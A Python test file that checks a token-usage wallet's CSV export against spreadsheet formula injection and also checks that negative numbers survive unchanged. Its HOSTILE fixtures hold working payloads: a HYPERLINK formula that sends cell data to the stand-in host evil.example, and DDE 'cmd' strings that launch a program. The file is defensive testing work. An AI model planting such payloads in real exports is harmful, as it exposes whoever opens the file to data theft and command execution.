"""CSV formula injection: hostile text cells are neutralised in every table, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

from hypothesis import given
from hypothesis import strategies as st
from sqlite_utils import Database

from tokenwallet.domain.accounts import Account, AccountKind
from tokenwallet.domain.allowance import Allowance, Cadence, Grant, GrantKind, Unit
from tokenwallet.domain.money import usd_to_micros as usd
from tokenwallet.domain.usage import Source, UsageRecord
from tokenwallet.ledger import accounts, allowances, usage
from tokenwallet.ledger import alerts as alert_store
from tokenwallet.reports.build import build_report
from tokenwallet.reports.csv_export import TABLES, to_csv
from tokenwallet.settings import Settings

NOW = datetime(2026, 11, 20, tzinfo=UTC)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
UTC_SETTINGS = Settings(timezone="UTC")
HOSTILE = {
    "model": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "project": "+cmd|' /C calc'!A0",
    "workspace": "-2+3+cmd|' /C calc'!A0",
    "allowance": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "\t=1+1",
    "message": "\r=1+1",
}


def _ledger(db: Database) -> Database:
    t0 = datetime(2026, 10, 1, tzinfo=UTC)
    accounts.add(db, Account(id="oa", kind=AccountKind.OPENAI, label="oa"), at=t0)
    allowances.add(
        db,
        Allowance(
            id="a1",
            name=HOSTILE["allowance"],
            unit=Unit.USD,
            amount=usd(100),
            cadence=Cadence.MONTHLY,
            starts_at=t0,
            timezone="UTC",
        ),
        at=t0,
    )
    # An adjustment larger than the grant: the month's granted figure is negative.
    allowances.add_grant(
        db,
        Grant("adj", "a1", GrantKind.ADJUSTMENT, usd("-112.5"), datetime(2026, 11, 2, tzinfo=UTC)),
        at=datetime(2026, 11, 2, tzinfo=UTC),
    )
    start = datetime(2026, 11, 3, 9, tzinfo=UTC)
    row = UsageRecord(
        "oa",
        Source.API_COST,
        "k1",
        start,
        start + timedelta(hours=1),
        "openai",
        HOSTILE["model"],
        cost_micros=usd(2),
        project=HOSTILE["project"],
        workspace=HOSTILE["workspace"],
    )
    with db.atomic():
        usage.upsert(db, [row], recorded_at=NOW)
        alert_store.add_event(
            db,
            rule_id="r1",
            allowance_id="a1",
            period_key="k",
            kind="threshold",
            fired_at=datetime(2026, 11, 4, tzinfo=UTC),
            severity="warning",
            title=HOSTILE["title"],
            message=HOSTILE["message"],
        )
    return db


def test_every_table_neutralises_formula_cells(db: Database) -> None:
    report = build_report(_ledger(db), "2026-11", UTC_SETTINGS, NOW)
    texts = {name: to_csv(report, name) for name in TABLES}
    cells = [cell for text in texts.values() for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    for value in HOSTILE.values():
        assert value not in cells, value  # never a raw cell
        assert "'" + value in cells, value  # but there, behind a single quote
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in texts["usage"]  # quoted, quotes doubled
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_negative_numbers_stay_numbers(db: Database) -> None:
    report = build_report(_ledger(db), "2026-11", UTC_SETTINGS, NOW)
    text = to_csv(report, "allowances")
    (line,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert line["granted"] == f"{100 - 112.5:.6f}" == "-12.500000"
    assert ",-12.500000," in text  # written as it is: no quote, no prefix


TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=12)
CELLS = st.one_of(st.none(), st.integers(-(10**12), 10**12), TEXT, st.sampled_from(["-1", "-0.5", "+1", "=1", "@a"]))


@given(st.lists(st.lists(CELLS, min_size=2, max_size=6), min_size=1, max_size=5))
def test_cells_read_back_and_plain_rows_match_the_csv_module(rows: list[list[object]]) -> None:
    from tokenwallet.reports.csv_export import csv_cell

    written = "".join(",".join(csv_cell(c) for c in row) + "\r\n" for row in rows)
    back = list(csv.reader(io.StringIO(written, newline="")))
    for row, read in zip(rows, back, strict=True):
        for cell, got in zip(row, read, strict=True):
            text = "" if cell is None else str(cell)
            dangerous = text.startswith(FORMULA_START) and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text)
            assert got == ("'" + text if dangerous else text)
    plain = [r for r in rows if not any(isinstance(c, str) and c.startswith(FORMULA_START) for c in r)]
    expected = io.StringIO(newline="")
    csv.writer(expected, lineterminator="\r\n").writerows(plain)
    assert "".join(",".join(csv_cell(c) for c in row) + "\r\n" for row in plain) == expected.getvalue()
